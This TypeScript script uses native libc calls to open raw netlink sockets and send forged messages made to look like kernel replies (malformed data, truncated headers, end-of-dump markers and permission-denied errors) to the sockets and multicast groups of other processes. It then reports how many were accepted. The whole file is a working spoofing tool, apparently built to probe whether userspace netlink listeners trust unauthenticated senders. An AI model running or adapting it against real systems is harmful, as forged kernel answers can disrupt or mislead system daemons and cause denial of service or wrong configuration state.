import { constants } from "node:os";
import koffi from "koffi";

/**
 * Sends what looks like answers of the kernel to sockets of other processes, and to a group that they listen to.
 * Arguments: `PROTOCOL/PORT/GROUPS`, each. Prints how many datagrams were taken.
 */
const AF_NETLINK = 16;
const RAW = 3;
const libc = koffi.load(null);
const socket = libc.func("int socket(int, int, int)");
const sendTo = libc.func("long sendto(int, void *, size_t, int, void *, uint32_t)");

function header(length: number, type: number, value: number): Buffer {
  const bytes = Buffer.alloc(36);
  bytes.writeUInt32LE(length, 0);
  bytes.writeUInt16LE(type, 4);
  bytes.writeInt32LE(value, 16);
  return bytes;
}

/** Garbage, one cut off, the end of a listing, a refusal, and a transaction's end. */
const FORGED = [
  Buffer.alloc(40, 0xff),
  header(4096, 0x0a0f, 0),
  header(36, 3, 0),
  header(36, 2, -constants.errno.EPERM),
  header(20, 0x0a0f, 0).subarray(0, 20),
];

let taken = 0;
for (const target of process.argv.slice(2)) {
  const [protocol = 0, port = 0, groups = 0] = target.split("/").map(Number);
  const descriptor = socket(AF_NETLINK, RAW, protocol);
  const address = Buffer.alloc(12);
  address.writeUInt16LE(AF_NETLINK, 0);
  address.writeUInt32LE(port, 4);
  address.writeUInt32LE(groups, 8);
  for (const forged of FORGED) {
    if (sendTo(descriptor, forged, forged.length, 0, address, address.length) === forged.length) taken += 1;
  }
}
process.stdout.write(String(taken));
